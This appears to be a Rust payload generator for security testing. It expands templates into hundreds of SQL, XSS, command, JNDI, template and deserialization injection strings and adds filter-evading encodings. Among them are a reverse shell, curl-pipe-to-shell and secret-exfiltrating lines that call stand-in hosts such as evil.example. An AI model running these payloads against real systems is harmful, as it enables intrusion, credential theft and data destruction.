//! Attack payloads, made from templates: every one distinct, each of a kind that is known from the field. And the ways in which
//! they are encoded on their way.

use std::collections::BTreeSet;

/// A template's blanks are `{A}` and `{B}`; each is filled with each of its words.
struct Template {
    kind: &'static str,
    text: &'static str,
    a: &'static [&'static str],
    b: &'static [&'static str],
}

const ONE: &[&str] = &[""];
const TABLES: &[&str] = &["users", "accounts", "orders", "members", "admin_users"];
const COLUMNS: &[&str] = &["password", "token", "email", "name,password", "@@version"];
const NUMBERS: &[&str] = &["1", "2", "7", "42", "1337"];
const COMMENTS: &[&str] = &["--", "-- -", "#", "/*"];
const COMMANDS: &[&str] = &[
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "ls -la /",
    "wget http://evil.example/x.sh",
    "curl http://evil.example/x|sh",
    "nc -e /bin/sh evil.example 4444",
    "ping -c 4 evil.example",
    "sleep 10",
];
const CALLS: &[&str] =
    &["alert(1)", "alert(document.cookie)", "prompt(1)", "confirm(1)", "fetch('//evil.example/'+document.cookie)"];
const EVENTS: &[&str] = &["onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onpointerenter"];
const FILES: &[&str] =
    &["etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "windows/win.ini", "var/log/apache2/access.log"];
const HOSTS: &[&str] = &["evil.example/a", "198.51.100.7:1389/Exploit", "attacker.test/x", "x.dnslog.example/b"];
const SUMS: &[&str] = &["7*7", "7*'7'", "191*7", "1337*3"];

const fn t(kind: &'static str, text: &'static str, a: &'static [&'static str], b: &'static [&'static str]) -> Template {
    Template { kind, text, a, b }
}

const TEMPLATES: &[Template] = &[
    // SQL
    t("sqli", "{A}' or '{A}'='{A}", NUMBERS, ONE),
    t("sqli", "{A}' or 1=1{B}", NUMBERS, COMMENTS),
    t("sqli", "\" or \"{A}\"=\"{A}\"{B}", NUMBERS, COMMENTS),
    t("sqli", "{A}) or ({A}={A}", NUMBERS, ONE),
    t("sqli", "{A}' union select {B} from users--", NUMBERS, COLUMNS),
    t("sqli", "-{A} union all select null,{B},null--", NUMBERS, COLUMNS),
    t("sqli", "x' and (select count(*) from {A})>{B}--", TABLES, NUMBERS),
    t("sqli", "{A}; drop table {B}--", NUMBERS, TABLES),
    t("sqli", "{A}'; update {B} set role='admin'--", NUMBERS, TABLES),
    t("sqli", "{A}; insert into {B} values (1,'x')--", NUMBERS, TABLES),
    t("sqli", "{A}' and sleep({A}){B}", NUMBERS, COMMENTS),
    t("sqli", "{A}' and benchmark({A}000000,md5(1)){B}", NUMBERS, COMMENTS),
    t("sqli", "{A}'; waitfor delay '0:0:{A}'--", NUMBERS, ONE),
    t("sqli", "{A}' || pg_sleep({A})--", NUMBERS, ONE),
    t("sqli", "{A}' and extractvalue(1,concat(0x7e,(select {B})))--", NUMBERS, COLUMNS),
    t("sqli", "{A}' order by {A}{B}", NUMBERS, COMMENTS),
    t("sqli", "' and ascii(substring((select {A} from {B} limit 1),1,1))>64--", COLUMNS, TABLES),
    t("sqli", "{A}' into outfile '/var/www/{B}.php'--", NUMBERS, TABLES),
    t("sqli", "1 union/**/select/**/{A}/**/from/**/{B}", COLUMNS, TABLES),
    t("sqli", "'; exec xp_cmdshell('{A}')--", COMMANDS, ONE),
    // Other query languages
    t("nosql", "{\"$gt\":\"{A}\"}", NUMBERS, ONE),
    t("nosql", "{\"$where\":\"this.{A}==this.{B}\"}", TABLES, TABLES),
    t("nosql", "'; return true; var x='{A}", NUMBERS, ONE),
    t("ldap", "*)(uid={A}))(|(uid=*", TABLES, ONE),
    t("ldap", "admin)(&(password={A}))", NUMBERS, ONE),
    t("xpath", "' or count(//{A})>0 or 'a'='b", TABLES, ONE),
    // Cross-site scripting
    t("xss", "<script>{A}</script>", CALLS, ONE),
    t("xss", "\"><script src=//{A}></script>", HOSTS, ONE),
    t("xss", "<img src=x {A}={B}>", EVENTS, CALLS),
    t("xss", "<svg/{A}={B}>", EVENTS, CALLS),
    t("xss", "\" autofocus {A}=\"{B}", EVENTS, CALLS),
    t("xss", "<details open {A}={B}>", EVENTS, CALLS),
    t("xss", "javascript:{A}", CALLS, ONE),
    t("xss", "<iframe src=\"javascript:{A}\">", CALLS, ONE),
    t("xss", "<a href=\"javascript:{A}\">x</a>", CALLS, ONE),
    t("xss", "<object data=\"data:text/html,<script>{A}</script>\">", CALLS, ONE),
    t("xss", "';{A};//", CALLS, ONE),
    t("xss", "<math><mtext></form><form><mglyph><style></math><img src {A}={B}>", EVENTS, CALLS),
    // Paths and files
    t("traversal", "../../../../{A}", FILES, ONE),
    t("traversal", "..\\..\\..\\..\\{A}", FILES, ONE),
    t("traversal", "....//....//....//{A}", FILES, ONE),
    t("traversal", "/{A}", FILES, ONE),
    t("traversal", "..;/..;/..;/{A}", FILES, ONE),
    t("traversal", "images/../../../../{A}\0.png", FILES, ONE),
    t("traversal", "php://filter/convert.base64-encode/resource=../../{A}", FILES, ONE),
    t("traversal", "file:///{A}", FILES, ONE),
    t("rfi", "http://{A}.php?", HOSTS, ONE),
    t("rfi", "php://input&cmd={A}", COMMANDS, ONE),
    t("ssrf", "http://169.254.169.254/latest/meta-data/{A}", TABLES, ONE),
    t("ssrf", "http://metadata.google.internal/computeMetadata/v1/{A}", TABLES, ONE),
    t("ssrf", "http://127.0.0.1:{A}/admin", NUMBERS, ONE),
    t("ssrf", "http://[::1]:{A}/", NUMBERS, ONE),
    t("ssrf", "gopher://127.0.0.1:{A}/_INFO", NUMBERS, ONE),
    t("ssrf", "dict://localhost:{A}/stat", NUMBERS, ONE),
    // Commands
    t("command", "; {A}", COMMANDS, ONE),
    t("command", "| {A}", COMMANDS, ONE),
    t("command", "&& {A}", COMMANDS, ONE),
    t("command", "$({A})", COMMANDS, ONE),
    t("command", "`{A}`", COMMANDS, ONE),
    t("command", "x\n{A}\n", COMMANDS, ONE),
    t("command", "() { :;}; /bin/bash -c '{A}'", COMMANDS, ONE),
    t("command", "a;/bin/{A}", COMMANDS, ONE),
    t("command", "& cmd /c {A} &", &["dir", "whoami", "type C:\\windows\\win.ini", "net user"], ONE),
    t("command", ";{IFS}cat${IFS}/{A}", FILES, ONE),
    // Lookups of logging libraries
    t("jndi", "${jndi:ldap://{A}}", HOSTS, ONE),
    t("jndi", "${jndi:rmi://{A}}", HOSTS, ONE),
    t("jndi", "${${lower:j}ndi:${lower:l}dap://{A}}", HOSTS, ONE),
    t("jndi", "${${::-j}${::-n}${::-d}${::-i}:ldap://{A}}", HOSTS, ONE),
    t("jndi", "${${env:X:-j}ndi${env:X:-:}ldap://{A}}", HOSTS, ONE),
    t("jndi", "${jndi:dns://{A}/${env:AWS_SECRET_ACCESS_KEY}}", HOSTS, ONE),
    // Templates
    t("template", "{{{A}}}", SUMS, ONE),
    t("template", "${{A}}", SUMS, ONE),
    t("template", "#{{A}}", SUMS, ONE),
    t("template", "<%= {A} %>", SUMS, ONE),
    t("template", "*{{A}}", SUMS, ONE),
    t("template", "{{config.{A}}}", &["items()", "SECRET_KEY", "from_object('os')"], ONE),
    t("template", "{{''.__class__.__mro__[{A}].__subclasses__()}}", NUMBERS, ONE),
    t("template", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{A}{% endfor %}", NUMBERS, ONE),
    t(
        "template",
        "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('{A}').read()}}",
        COMMANDS,
        ONE,
    ),
    t("template", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"{A}\")}", COMMANDS, ONE),
    t(
        "template",
        "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('{A}')",
        COMMANDS,
        ONE,
    ),
    // Code
    t("php", "<?php system('{A}'); ?>", COMMANDS, ONE),
    t("php", "<?php eval($_POST['{A}']);", TABLES, ONE),
    t("php", "O:8:\"{A}\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}", &["Monolog1", "Exploit1", "FileDrop"], ONE),
    t("php", "assert(phpinfo({A}))", NUMBERS, ONE),
    t(
        "java",
        "class.module.classLoader.resources.context.parent.pipeline.first.{A}",
        &["pattern", "suffix", "directory", "prefix"],
        ONE,
    ),
    t(
        "java",
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('{A}'))}",
        COMMANDS,
        ONE,
    ),
    t("java", "T(java.lang.Runtime).getRuntime().exec('{A}')", COMMANDS, ONE),
    t("java", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA{A}", NUMBERS, ONE),
    t("node", "require('child_process').exec('{A}')", COMMANDS, ONE),
    t("node", "{\"__proto__\":{\"{A}\":true}}", &["isAdmin", "admin", "role", "polluted"], ONE),
    t("node", "constructor.prototype.{A}=1", &["isAdmin", "admin", "role", "polluted"], ONE),
    t("python", "__import__('os').system('{A}')", COMMANDS, ONE),
    t("ruby", "--- !ruby/object:Gem::{A}\n  x: 1", &["Installer", "SpecFetcher", "Requirement"], ONE),
    // Protocols and documents
    t("crlf", "x\r\nSet-Cookie: {A}=1", TABLES, ONE),
    t("crlf", "x\r\nLocation: http://{A}", HOSTS, ONE),
    t("crlf", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nX: {A}", NUMBERS, ONE),
    t("mail", "a@b.example\r\nBcc: {A}@evil.example", TABLES, ONE),
    t("xxe", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///{A}\">]><r>&x;</r>", FILES, ONE),
    t("ssi", "<!--#exec cmd=\"{A}\" -->", COMMANDS, ONE),
    t("esi", "<esi:include src=\"http://{A}\"/>", HOSTS, ONE),
];

/// One attack.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Attack {
    /// `sqli`, `xss` and so on.
    pub kind: &'static str,
    /// What an attacker puts in a value.
    pub text: String,
}

/// Every attack, once.
pub fn attacks() -> Vec<Attack> {
    let mut seen = BTreeSet::new();
    let mut out = Vec::new();
    for template in TEMPLATES {
        for a in template.a {
            for b in template.b {
                let text = template.text.replace("{A}", a).replace("{B}", b).replace("{IFS}", "${IFS}");
                if seen.insert(text.clone()) {
                    out.push(Attack { kind: template.kind, text });
                }
            }
        }
    }
    out
}

/// How a value is written on its way.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Encoding {
    /// Only what a URL cannot hold is written as `%XX`.
    Plain,
    /// Every byte is written as `%XX`.
    Full,
    /// Letters change case, as languages that do not tell cases apart allow; then as `Plain`.
    Mixed,
    /// `%XX`, and its percent signs once more.
    Twice,
    /// `%uXXXX`, as some servers read it.
    Wide,
}

impl Encoding {
    /// All of them.
    pub const ALL: [Self; 5] = [Self::Plain, Self::Full, Self::Mixed, Self::Twice, Self::Wide];

    /// Whether an attack is still the same in another case.
    fn keeps(self, attack: &Attack) -> bool {
        self != Self::Mixed || matches!(attack.kind, "sqli" | "xss")
    }

    /// The attack, written so; `Plain` where the encoding would make another text of it.
    pub fn write(self, attack: &Attack) -> String {
        match self {
            Self::Mixed if self.keeps(attack) => {
                let mixed: String = attack
                    .text
                    .chars()
                    .enumerate()
                    .map(|(i, c)| if i % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
                    .collect();
                percent(&mixed, false)
            }
            Self::Plain | Self::Mixed => percent(&attack.text, false),
            Self::Full => percent(&attack.text, true),
            Self::Twice => percent(&attack.text, false).replace('%', "%25"),
            Self::Wide => attack
                .text
                .chars()
                .map(|c| if c.is_ascii_alphanumeric() { c.to_string() } else { format!("%u{:04x}", u32::from(c)) })
                .collect(),
        }
    }
}

impl Encoding {
    /// The attack as it stands in a JSON text, for readers that decode what they are given once more.
    pub fn inside(self, attack: &Attack) -> String {
        match self {
            Self::Plain | Self::Full => attack.text.clone(),
            Self::Twice => percent(&attack.text, false),
            other => {
                let written = other.write(attack);
                if other == Self::Mixed { unpercent(&written) } else { written }
            }
        }
    }
}

fn unpercent(text: &str) -> String {
    let mut out = Vec::new();
    let mut bytes = text.bytes();
    while let Some(b) = bytes.next() {
        let hex: Option<u8> = (b == b'%')
            .then(|| {
                let (a, b) = (bytes.next()?, bytes.next()?);
                u8::from_str_radix(std::str::from_utf8(&[a, b]).ok()?, 16).ok()
            })
            .flatten();
        out.push(hex.unwrap_or(b));
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// `%XX` (RFC 3986 §2.1) for what is not unreserved, or for everything.
pub fn percent(text: &str, all: bool) -> String {
    text.bytes()
        .map(|b| match b {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' if !all => char::from(b).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_seven_hundred_distinct_attacks_of_many_kinds() {
        let all = attacks();
        let kinds: BTreeSet<&str> = all.iter().map(|a| a.kind).collect();
        assert!(all.len() > 700, "{}", all.len());
        assert!(kinds.len() >= 15, "{kinds:?}");
        assert!(all.iter().all(|a| !a.text.contains("{A}") && !a.text.contains("{B}")));
    }

    #[test]
    fn encodings_differ_and_undo() {
        let attack = Attack { kind: "xss", text: "<img a='1'>".into() };
        let written: BTreeSet<String> = Encoding::ALL.iter().map(|e| e.write(&attack)).collect();
        assert_eq!(written.len(), 5);
        assert_eq!(Encoding::Twice.write(&attack), "%253Cimg%2520a%253D%25271%2527%253E");
        assert_eq!(Encoding::Wide.write(&attack), "%u003cimg%u0020a%u003d%u00271%u0027%u003e");
    }
}
